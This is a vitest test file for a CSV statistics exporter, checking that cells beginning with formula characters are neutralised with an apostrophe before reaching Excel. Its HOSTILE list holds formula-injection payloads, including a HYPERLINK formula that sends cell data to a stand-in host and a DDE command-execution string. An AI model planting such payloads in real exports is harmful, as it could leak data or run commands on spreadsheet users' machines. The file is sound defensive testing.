// stats.csv opens in Excel: a label, unit or group that starts a formula must arrive as text (issue 28).
import { describe, expect, it } from 'vitest';
import type { Metric } from '../../../src/lib/content/metrics.ts';
import { buildSeries } from '../../../src/lib/series/series.ts';
import { statRecords, statsCsv } from '../../../src/lib/series/stats-export.ts';
import { isFormulaLike, neutraliseFormula } from '../../../src/lib/series/csv-formula.ts';

/** RFC 4180 as Excel reads it: quoted fields may hold commas, doubled quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') row.push(cell), (cell = '');
    else if (ch === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    else cell += ch;
  }
  if (cell || row.length) row.push(cell), rows.push(row);
  return rows;
}

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"点此")',
  "=cmd|' /C calc'!A0",
  '+1+2',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u3000=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '=1,2',
  '="a""b"',
];

const metric = (label: string, unit = '次', group = '甲组'): Metric => ({ id: 'x', label, unit, group, better: 'neutral', public: false, key: false });

describe('stats.csv formula cells', () => {
  it('every label, unit and group that would start a formula reaches the spreadsheet as text behind an apostrophe', () => {
    for (const bad of HOSTILE) {
      const series = buildSeries([metric(bad, bad, bad)], [{ year: 2022, stats: { x: { kind: 'exact', value: 3 } } }]);
      const rows = parseCsv(statsCsv(statRecords(series)).slice(1));
      expect(rows).toHaveLength(2);
      const [, label, unit, group, year, written, shown] = rows[1]!;
      for (const cell of [label, unit, group]) expect(cell, JSON.stringify(bad)).toBe(`'${bad}`);
      expect([year, written, shown]).toEqual(['2022', '3', '3']);
    }
  });

  it('a neutralised cell is written in double quotes, as OWASP asks', () => {
    const series = buildSeries([metric('=1+1')], [{ year: 2022, stats: { x: { kind: 'exact', value: 3 } } }]);
    expect(statsCsv(statRecords(series)).split('\r\n')[1]).toBe(`x,"'=1+1",次,甲组,2022,3,3`);
  });

  it('leaves ordinary text, numbers and the stat forms alone', () => {
    for (const ok of ['学习', '办结率', '%', '30+', '**', '**余', '—', '12', 'a=b', '一-二', "'已有撇号"]) expect(isFormulaLike(ok), ok).toBe(false);
    expect(neutraliseFormula(2022)).toBe(2022);
    expect(neutraliseFormula('=1')).toBe("'=1");
    const series = buildSeries([metric('学习-教育', '次')], [{ year: 2021, stats: { x: { kind: 'atLeast', value: 30 } } }]);
    expect(statsCsv(statRecords(series)).split('\r\n')[1]).toBe('x,学习-教育,次,甲组,2021,30+,30余');
  });
});
